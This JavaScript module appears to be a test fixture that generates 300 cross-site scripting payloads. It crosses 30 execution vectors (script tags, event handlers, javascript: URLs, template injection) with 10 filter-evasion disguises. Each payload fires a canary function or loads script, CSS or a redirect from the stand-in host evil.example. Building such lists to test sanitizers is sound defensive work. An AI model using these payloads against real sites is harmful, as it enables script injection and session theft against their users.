// What people write who want a browser to run it: 30 ways to run something, each in 10 disguises. Every one calls `hit(n)` or asks `evil.example`, so that a run is seen.
const ways = [
  (n) => `<script>hit(${n})</script>`,
  (n) => `<script src=//evil.example/${n}.js></script>`,
  (n) => `<img src=x onerror=hit(${n})>`,
  (n) => `<img src="//evil.example/${n}.gif">`,
  (n) => `<svg onload=hit(${n})>`,
  (n) => `<svg><script>hit(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=hit(${n}) attributeName=x dur=1s>`,
  (n) => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.hit(${n})"></iframe>`,
  (n) => `<a href="javascript:hit(${n})">x</a>`,
  (n) => `javascript:hit(${n})`,
  (n) => `<body onload=hit(${n})>`,
  (n) => `<details open ontoggle=hit(${n})>`,
  (n) => `<input autofocus onfocus=hit(${n})>`,
  (n) => `<video><source onerror=hit(${n})></video>`,
  (n) => `<audio src=x onerror=hit(${n})>`,
  (n) => `<marquee onstart=hit(${n})>x</marquee>`,
  (n) => `<object data="javascript:hit(${n})"></object>`,
  (n) => `<embed src="javascript:hit(${n})">`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=hit(${n})>`,
  (n) => `<style>@import '//evil.example/${n}.css'</style>`,
  (n) => `<link rel=stylesheet href="//evil.example/${n}.css">`,
  (n) => `<base href="//evil.example/${n}/">`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.example/${n}">`,
  (n) => `<form action="//evil.example/${n}"><button autofocus>x</button></form>`,
  (n) => `<div style="background:url(//evil.example/${n}.png)">x</div>`,
  (n) => `{{constructor.constructor('hit(${n})')()}}`,
  (n) => '${hit(' + n + ')}',
  (n) => `data:text/html,<script>hit(${n})</script>`,
  (n) => `[x](javascript:hit(${n}))`,
]
const disguises = [
  (text) => text,
  (text) => `"><${'/'}title>${text}`,
  (text) => `'>${text}<x y='`,
  (text) => `</textarea></script></style>${text}`,
  (text) => `-->${text}<!--`,
  (text) => text.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)).replace(/hit/gi, 'hit'),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/javascript/g, 'java\tscript').replace(/ on/g, '\non'),
  (text) => text.replace(/</g, '\u{FF1C}').replace(/>/g, '\u{FF1E}'),
  (text) => `\u{202E}${text}\u{202C} *bold* _x_ https://shop.example/?q=${encodeURIComponent(text)}`,
]

export const payloads = disguises.flatMap((disguise, row) => ways.map((way, column) => disguise(way(row * ways.length + column))))

/** The payloads in groups of so many. */
export function groups(size) {
  return Array.from({ length: Math.ceil(payloads.length / size) }, (_, index) => payloads.slice(index * size, (index + 1) * size))
}
